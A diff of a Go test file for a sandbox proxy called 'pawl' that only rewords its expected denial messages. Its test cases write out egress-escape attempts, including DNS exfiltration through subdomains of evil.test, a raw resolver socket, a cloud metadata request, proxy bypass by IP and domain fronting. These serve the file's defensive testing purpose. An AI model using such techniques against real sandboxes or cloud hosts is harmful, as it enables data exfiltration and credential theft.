@@ -30,15 +30,15 @@ func TestSandbox(t *testing.T) {
 	}{
 		{"a host that was named", `curl -sS https://ok.test/a`, "hello from ok.test", []string{"look ok.test", "dial 93.184.216.10:443", "hit 93.184.216.10 ok.test ok.test/a"}},
 		{"plain where that was named", `curl -sS http://x.test/a`, "hello from x.test", []string{"look x.test", "dial 93.184.216.10:80", "hit 93.184.216.10 plain x.test/a"}},
-		{"a host that was not", `curl -sSv https://evil.test/`, "403 pawl: evil.test is not among the hosts that this command may reach: ok.test, x.test:80", nil},
-		{"plain to a host that was not", `curl -sS http://evil.test/`, "pawl: evil.test is not among the hosts that this command may reach: ok.test, x.test:80\nAsk the user to allow evil.test.", nil},
-		{"plain to a host that is for TLS", `curl -sS http://ok.test/`, "pawl: plain http is closed: use https://ok.test/", nil},
+		{"a host that was not", `curl -sSv https://evil.test/`, "403 pawl: evil.test is not one of the hosts that this command may reach: ok.test, x.test:80", nil},
+		{"plain to a host that was not", `curl -sS http://evil.test/`, "pawl: evil.test is not one of the hosts that this command may reach: ok.test, x.test:80\nAsk the user to allow evil.test.", nil},
+		{"plain to a host that is for TLS", `curl -sS http://ok.test/`, "pawl: plain http is not allowed: use https://ok.test/", nil},
 		{"E1 a name that carries data", `getent ahosts secret.evil.test; curl -sS --noproxy '*' https://secret.evil.test/; nslookup secret.evil.test 9.9.9.9; echo "code $?"`, "code ", nil},
 		{"E1 a question to the resolver", `exec 3<>/dev/udp/9.9.9.9/53 && echo question >&3`, "", nil},
-		{"E5 metadata", `curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/; curl -sS --max-time 5 --noproxy '*' http://169.254.169.254/`, "pawl: 169.254.169.254 is not among", nil},
+		{"E5 metadata", `curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/; curl -sS --max-time 5 --noproxy '*' http://169.254.169.254/`, "pawl: 169.254.169.254 is not one of", nil},
 		{"past the proxy, by address", `curl -sS --max-time 5 --noproxy '*' -k https://93.184.216.10/`, "curl: (7)", nil},
 		{"another host behind the same front", `curl -sS -k --resolve evil.test:443:127.0.0.1 --connect-to evil.test:443:ok.test:443 https://evil.test/`, "curl: (35)", []string{"look ok.test", "dial 93.184.216.10:443"}},
-		{"a redirect to a host that was not named", `curl -sS -L http://x.test/to`, "pawl: evil.test is not among", []string{"look x.test", "dial 93.184.216.10:80", "hit 93.184.216.10 plain x.test/to"}},
+		{"a redirect to a host that was not named", `curl -sS -L http://x.test/to`, "pawl: evil.test is not one of", []string{"look x.test", "dial 93.184.216.10:80", "hit 93.184.216.10 plain x.test/to"}},
 		{"a name and a password", `curl -sS -U user:secret https://ok.test/b`, "hello from ok.test", []string{"look ok.test", "dial 93.184.216.10:443", "hit 93.184.216.10 ok.test ok.test/b"}},
 	} {
 		t.Run(test.name, func(t *testing.T) {
